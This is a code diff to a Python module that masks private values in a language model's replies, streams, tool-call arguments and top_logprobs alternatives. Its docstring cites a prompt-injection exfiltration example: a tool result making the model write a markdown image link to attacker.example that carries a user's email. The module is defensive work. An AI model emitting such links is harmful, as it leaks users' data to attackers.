@@ -27,6 +27,15 @@ renderer fetches such a link and would send the value to whoever wrote it (a pro
 tool result can write `![x](https://attacker.example/p.png?d=<EMAIL_...>)`). Streams keep the last
 `LINK_CONTEXT` characters of each channel to tell.
 
+Fields: a value the model writes across two fields (content and then a tool call's arguments, two
+content blocks) is read where they meet: the end of the last field written that a value may continue
+(what a stream would hold back there: the unfinished word, trailing digit groups, when its last 64
+characters hold a digit) is kept, and the next
+field's first text is masked as its continuation (`mask_after`), so the part of the value in the second
+field is masked; the part already sent in the first is too short to be a value on its own. The same
+reading serves `top_logprobs`: an alternative token is read after the chosen text before it, masked
+where it would complete or hold a restricted value, and nothing is restored into it.
+
 `keep_transcript` keeps what the client is sent (the last `TRANSCRIPT_CHARS` characters), so that the
 response's use check reads exactly the text this one reader passed on, in plain and streamed replies.
 """
@@ -56,6 +65,7 @@ _JSON_GROUPS = re.compile(rf"(?:(?<![^\s])|(?<=\\n))(?:[0-9A-Z+()\-{INVISIBLE}]{
 _LINE_END_WORD = re.compile(r"(?<![^\s])[\w@.+/=%:-]{4,80}\r?\n\Z")
 _JSON_LINE_END_WORD = re.compile(r"(?:(?<![^\s])|(?<=\\n))[\w@.+/=%:-]{4,80}(?:\\r)?\\n\Z")
 _VALUE_MARK = re.compile(r"[0-9@]")
+_DIGIT = re.compile(r"[0-9]")
 
 # What comes before a token places it in a link: the word it is part of (no spaces in a URL).
 _WORD_START = re.compile(r'[\s"\'`]')
@@ -123,8 +133,10 @@ class ResponseText:
 
     def __init__(self, pseudonyms: Mapping[str, str],
                  mask_new: Callable[[str], str] | None = None, *, keep_transcript: bool = False,
-                 link_hosts: tuple[str, ...] = ()) -> None:
+                 link_hosts: tuple[str, ...] = (), mask_after: Callable[[str, str], str] | None = None) -> None:
         self._values = dict(pseudonyms)
+        self.mask_after = mask_after   # mask_new of a text read as the continuation of another
+        self.carry = ""               # the open end of the last field written (see the module's docstring)
         self.link_hosts = link_hosts
         self._json_values: dict[str, str] = {}
         self.mask_new = mask_new
@@ -190,11 +202,27 @@ class ResponseText:
             token = self._token(match, text, in_json, odd_before, context)
             if token is None:
                 continue  # not a token at all: part of the text around it
-            pieces.append(self._mask(text[cursor:match.start()], in_json))
+            pieces.append(self._mask(text[cursor:match.start()], in_json, self.carry))
+            self.carry = ""   # a token ends what came before it
             pieces.append(token)
             cursor = match.end()
-        pieces.append(self._mask(text[cursor:], in_json))
+        last = text[cursor:]
+        pieces.append(self._mask(last, in_json, self.carry))
+        if last or cursor:
+            self.carry = self._open_tail(_decoded(last) if in_json else last)
         return "".join(pieces)
+
+    def alternative(self, before: str, token: str) -> str:
+        """A token the model did not choose (`top_logprobs`), read after `before` (the chosen text before
+        it): masked where it would complete or hold a restricted value; nothing restored into it."""
+        if self.mask_new is None or not token:
+            return token
+        ends = [match.end() for match in TOKEN_RE.finditer(before)]
+        if ends:
+            before = before[ends[-1]:]   # the masks never see a token (see `rewrite`)
+        if self.mask_after is None:
+            return self.mask_new(token)
+        return self.mask_after(before[-VALUE_CAP:], token)
 
     def _token(self, match: re.Match[str], text: str, in_json: bool, odd_before: bool,
                context: str = "") -> str | None:
@@ -219,10 +247,14 @@ class ResponseText:
         host = link_host(before)
         return host is not None and not _allowed(host, self.link_hosts)
 
-    def _mask(self, text: str, in_json: bool) -> str:
+    def _mask(self, text: str, in_json: bool, context: str = "") -> str:
+        """`text` masked; read after `context` (the open end of the field before) when there is one."""
         mask_new = self.mask_new
         if not text or mask_new is None:
             return text
+        if context and self.mask_after is not None:
+            after = self.mask_after
+            mask_new = lambda piece: after(context, piece)  # noqa: E731 - one call site
         if not in_json:
             return mask_new(text)
         try:
@@ -231,6 +263,23 @@ class ResponseText:
             return mask_new(text)  # not a valid string literal's inside: mask what is there
         masked = mask_new(decoded)
         return text if masked == decoded else json.dumps(masked)[1:-1]
+
+    def _open_tail(self, text: str) -> str:
+        """The end of a text that the next field may continue into a value: what a stream would hold
+        back there (the unfinished word, trailing digit groups, a value-like word ending a line)."""
+        if not text or self.mask_after is None or _DIGIT.search(text, max(0, len(text) - VALUE_CAP)) is None:
+            return ""   # only an end holding a digit is carried (cards, ids, keys): prose costs one search
+        tail = text[-WORD_CAP:]
+        probe = ResponseStream(self, False)
+        return tail[min(probe.word_start(tail), probe.value_start(tail)):]
+
+
+def _decoded(text: str) -> str:
+    try:
+        value = json.loads(f'"{text}"', strict=False)
+    except ValueError:
+        return text
+    return value if isinstance(value, str) else text
 
 
 class ResponseStream:
@@ -274,11 +323,11 @@ class ResponseStream:
         """Where the part that is held back starts."""
         cut = self._token_start(text) if self._rewriter.restores else len(text)
         if self._rewriter.mask_new is not None:
-            cut = min(cut, self._word_start(text), self._value_start(text))
+            cut = min(cut, self.word_start(text), self.value_start(text))
         return cut
 
     @staticmethod
-    def _value_start(text: str) -> int:
+    def value_start(text: str) -> int:
         """The start of a trailing run of digit groups that the next chunk may continue; len(text) if none."""
         start = max(0, len(text) - VALUE_CAP)
         run = _VALUE_RUN.search(text, start)
@@ -299,7 +348,7 @@ class ResponseStream:
                 return pos
         return len(text)
 
-    def _word_start(self, text: str) -> int:
+    def word_start(self, text: str) -> int:
         """Just after the last word boundary; a forced cut when the word is longer than WORD_CAP."""
         limit = max(0, len(text) - WORD_CAP)
         boundary = -1
